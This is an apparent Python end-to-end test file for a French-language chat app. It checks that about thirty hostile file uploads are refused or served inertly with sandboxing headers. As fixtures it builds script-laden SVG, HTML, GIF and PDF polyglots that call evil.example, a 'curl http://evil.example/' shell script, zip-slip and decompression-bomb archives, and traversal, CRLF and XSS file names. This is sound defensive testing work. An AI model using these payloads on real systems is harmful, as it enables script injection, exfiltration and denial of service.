"""Thirty files made to do harm, chosen in a page and opened in another: nothing runs, nothing
escapes; each is refused with its reason, or is given as bytes that do nothing."""

import gzip
import re
from contextlib import suppress
from typing import Any
from uuid import UUID

import httpx
from playwright.async_api import BrowserContext, Error, Request, expect

from tests.e2e.conftest import Sit
from tests.e2e.screen import Screen
from tests.e2e.team import Colleague
from tests.e2e.test_files import file, joins, names_said
from tests.files.making import WORD, bare_dicom, dicom, flood, picture, tiff, zipped
from tests.server import LiveServer

# Whatever runs says so, and asks somebody else for something.
RUNS = b"document.title='perce';fetch('http://evil.example/')"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="' + RUNS + b'"/>'
HTML = b"<!doctype html><script>" + RUNS + b"</script>"
GIF_SCRIPT = b"GIF89a/*" + picture("GIF")[8:] + b"*/=1;" + RUNS
PDF_SCRIPT = (
    b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n"
    b"2 0 obj<</S/JavaScript/JS(app.launchURL('http://evil.example/'))>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
LONG = "a" * 900

REFUSED = [
    ("dessin.svg", "image/svg+xml", SVG),
    ("dessin.png", "image/png", SVG),
    ("photo.jpg", "image/jpeg", b"\xef\xbb\xbf \n" + SVG),
    ("photo2.jpg", "image/jpeg", HTML),
    ("page.html", "text/html", HTML),
    ("page.txt", "text/plain", b"Bonjour\n" + HTML),
    ("page16.txt", "text/plain", HTML.decode().encode("utf-16")),
    ("feuille.xml", "text/xml", b"<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'/>"),
    ("programme.pdf", "application/pdf", b"MZ\x90\0" + b"\0" * 100),
    ("script.txt", "text/plain", b"#!/bin/sh\ncurl http://evil.example/\n"),
    ("raccourci.pdf", "application/pdf", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60),
    ("macros.docx", "", zipped(WORD | {"word/vbaProject.bin": b"x"})),
    ("objet.rtf", "application/rtf", rb"{\rtf1 {\object\objemb {\*\objdata 0105}}}"),
    ("bombe.docx", "", zipped(WORD | {"word/big.xml": b"\0" * 60_000_000})),
    ("poupees.zip", "", zipped({"1.zip": zipped({"2.zip": zipped({"3.zip": b"x"})})})),
    ("evasion.zip", "", zipped({"../../../../tmp/evasion": b"x"})),
    ("tout.gz", "", gzip.compress(b"\0" * 1_000_000)),
    ("scanner.jpg", "image/jpeg", dicom()),
    ("scanner2.jpg", "image/jpeg", bare_dicom()),
    ("pages.tiff", "image/tiff", tiff(11)),
    ("boucle.tiff", "image/tiff", b"II*\0\x08\0\0\0\0\0\x08\0\0\0"),
    ("vide.pdf", "application/pdf", b""),
]
# What is taken, and the name it is shown and given back under.
INERT = [
    ("../../../etc/passwd.png", "image/png", picture(), "passwd.png"),
    ("C:\\Windows\\system32\\a.exe", "text/plain", b"du texte", "a.exe.txt"),
    ("bilan\r\nSet-Cookie: x=1\r\n.txt", "text/plain", b"du texte", "bilan Set-Cookie_ x=1 .txt"),
    ("photo\u202egnp.exe", "image/png", picture(), "photognp.exe.png"),
    (
        '<img src=x onerror="alert(1)">.txt',
        "text/plain",
        b"5 < 6",
        "_img src=x onerror=_alert(1)__.txt",
    ),
    (LONG + ".txt", "text/plain", b"long", "a" * 116 + ".txt"),
    ("deux.gif", "image/svg+xml", GIF_SCRIPT, "deux.gif"),
    ("fin.jpg", "text/html", picture("JPEG") + HTML, "fin.jpg"),
    ("mort.pdf", "text/html", PDF_SCRIPT, "mort.pdf"),
    ("faux.jpg", "image/jpeg", b"\xff\xd8\xff\xe0" + HTML, "faux.jpg"),
]
FLOOD = ("deluge.png", "image/png", flood())


async def test_thirty_hostile_files_do_nothing(
    worker: LiveServer, camille: Colleague, nadia: Colleague, two: UUID, sit: Sit
) -> None:
    assert len(REFUSED) + len(INERT) + 1 >= 30
    mine, hers = await sit(camille, two), await sit(nadia, two)
    strangers = Strangers()
    for screen in (mine, hers):
        screen.page.context.on("request", strangers.note)
    await are_refused(mine)
    await mine.field.fill("Que des pièges")
    await joins(mine, *(file(*each[:3]) for each in INERT[:9]))
    await mine.field.press("Enter")
    await joins(mine, file(*INERT[9][:3]), file(*FLOOD))
    await mine.field.press("Enter")
    pictures = hers.messages.get_by_role("button", name="Photo")
    await expect(hers.messages.get_by_text("contenu dangereux")).to_be_visible(timeout=60_000)
    await expect(hers.messages.get_by_text("image illisible")).to_be_visible()
    assert await names_said(nadia, two) == [each[3] for each in INERT] + [FLOOD[0]]
    for n in range(await pictures.count()):
        await pictures.nth(n).click()
        await expect(hers.page.get_by_role("dialog")).to_be_visible()
        await hers.page.keyboard.press("Escape")
        await expect(hers.page.get_by_role("dialog")).to_have_count(0)
    # A browser of hers that is not ours: Chromium's own reader complains of what it may not do.
    chromium = hers.page.context.browser
    assert chromium
    other = await chromium.new_context(
        base_url=nadia.signed_in.url, storage_state=await hers.page.context.storage_state()
    )
    other.on("request", strangers.note)
    await are_inert(other, nadia, two)
    await other.close()
    for screen in (mine, hers):
        await expect(screen.page).to_have_title(re.compile("Liaison"))
        await expect(screen.page.locator("[onerror], [onload], svg[onload]")).to_have_count(0)
    assert strangers.asked == []


class Strangers:
    """Whoever else than our server something is asked of."""

    def __init__(self) -> None:
        self.asked: list[str] = []

    def note(self, request: Request) -> None:
        # Chromium's own reader of PDF asks things of Chromium.
        own = ("http://127.0.0.1", "blob:", "data:", "chrome-extension:", "chrome:")
        if not request.url.startswith(own):
            self.asked.append(request.url)


async def are_refused(screen: Screen) -> None:
    """Ten at a time, each with its reason; what was typed stays."""
    await screen.writes("Mon texte")
    rows = screen.thread.get_by_role("list", name="Pièces jointes").get_by_role("listitem")
    for first in range(0, len(REFUSED), 10):
        some = REFUSED[first : first + 10]
        await joins(screen, *(file(*each) for each in some))
        await expect(rows.get_by_role("alert")).to_have_count(len(some), timeout=60_000)
        for said in await rows.get_by_role("alert").all_inner_texts():
            assert re.search(r"refusé\. .+\. Votre texte est gardé\.$", said), said
        for name, *_ in some:
            await screen.button(f"Retirer {name}").click()
    await expect(screen.field).to_have_value("Mon texte")


async def are_inert(browser: BrowserContext, who: Colleague, room: UUID) -> None:
    """Opened by their own address, as a link would: they are shown as a picture, read, or saved."""
    entries = await who.entries(room)
    files = [each for entry in entries for each in entry["what"].get("files", [])]
    for each in files:
        path = f"/api/files/{each['id']}/content"
        tab = await browser.new_page()
        with suppress(Error):  # what is saved is no page to go to
            await tab.goto(path)
        assert await tab.title() != "perce"
        await tab.close()
        async with who.signed_in.async_http() as http:
            is_given_safely(await http.get(path), each)


def is_given_safely(answer: httpx.Response, each: Any) -> None:
    headers = answer.headers
    if each["state"] == "refused":
        assert answer.status_code == 409
        return
    assert answer.status_code == 200
    assert headers["content-type"].split(";")[0] == each["type"]
    assert each["type"] in {"image/png", "image/jpeg", "image/gif", "application/pdf", "text/plain"}
    assert headers["content-security-policy"] == "default-src 'none'; sandbox"
    assert headers["x-content-type-options"] == "nosniff"
    assert "set-cookie" not in headers or "x=1" not in headers["set-cookie"]
    shown = each["type"] in {"image/png", "image/jpeg", "image/gif", "application/pdf"}
    assert headers["content-disposition"].startswith("inline" if shown else "attachment")
